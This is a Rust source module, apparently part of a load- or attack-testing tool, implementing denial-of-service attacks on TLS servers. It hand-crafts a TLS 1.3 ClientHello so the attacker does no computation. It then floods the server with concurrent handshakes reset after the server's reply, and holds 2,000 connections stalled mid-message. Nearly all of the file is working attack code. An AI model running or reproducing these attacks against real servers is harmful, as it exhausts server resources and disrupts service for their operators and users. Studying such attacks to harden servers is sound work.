//! Attacks on a TLS port: handshakes that the attacker never completes.
//!
//! The first message is built by hand, so that the attacker does none of the computation that the
//! server must do.

use crate::connections::{connect, reset};
use crate::target::{AttackRng, Target};
use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;

/// Handshakes in progress at once.
const AT_ONCE: usize = 64;

/// Builds the first message of a TLS 1.3 handshake (RFC 8446, 4.1.2).
///
/// Its X25519 share is 32 random bytes, which are as valid as any.
pub(crate) fn client_hello(rng: &mut AttackRng) -> Vec<u8> {
    let vector = |bytes: &[u8]| [&(bytes.len() as u16).to_be_bytes()[..], bytes].concat();
    let extension = |kind: u16, body: &[u8]| [&kind.to_be_bytes()[..], &vector(body)].concat();
    let share = [&[0x00, 0x1d][..], &vector(&rng.bytes(32))].concat();
    let extensions = [
        // supported_versions: 1.3. supported_groups: X25519. signature_algorithms: ECDSA on P-256,
        // and RSA.
        extension(43, &[2, 0x03, 0x04]),
        extension(10, &vector(&[0x00, 0x1d])),
        extension(13, &vector(&[0x04, 0x03, 0x08, 0x04])),
        extension(51, &vector(&share)),
    ]
    .concat();
    let body = [
        &[0x03, 0x03][..],
        &rng.bytes(32),
        // No session to resume; TLS_AES_128_GCM_SHA256; no compression.
        &[0],
        &vector(&[0x13, 0x01]),
        &[1, 0],
        &vector(&extensions),
    ]
    .concat();
    let message = [&[1][..], &(body.len() as u32).to_be_bytes()[1..], &body].concat();
    [&[0x16, 0x03, 0x01][..], &vector(&message)].concat()
}

/// Begins handshakes as fast as the server accepts them, and resets each after the server's
/// certificate.
pub(crate) fn hellos(target: &Target) -> String {
    let mut rng = target.rng();
    let begin = |rng: &mut AttackRng| -> Option<TcpStream> {
        let mut stream = connect(target)?;
        stream.write_all(&client_hello(rng)).ok()?;
        stream.set_nonblocking(true).ok()?;
        Some(stream)
    };
    let mut handshakes: Vec<Option<TcpStream>> = (0..AT_ONCE).map(|_| begin(&mut rng)).collect();
    let (mut answered, mut rejected, mut into) = (0_u64, 0_u64, vec![0; 4_096]);
    while target.is_active() {
        for slot in &mut handshakes {
            let Some(stream) = slot else {
                *slot = begin(&mut rng);
                continue;
            };
            match stream.read(&mut into) {
                Err(error) if error.kind() == ErrorKind::WouldBlock => continue,
                // A handshake record: the server has done its computation.
                Ok(received) if received > 0 && into[0] == 0x16 => answered += 1,
                _ => rejected += 1,
            }
            if let Some(stream) = slot.take() {
                reset(stream);
            }
        }
    }
    format!("{answered} handshakes computed, {rejected} sent away")
}

/// Begins 2,000 handshakes and stops in the middle of the first message.
pub(crate) fn stalled_handshakes(target: &Target) -> String {
    let message = client_hello(&mut target.rng());
    crate::connections::hold(target, &crate::connections::connect_many(target, 2_000, &message[..message.len() / 2]))
}
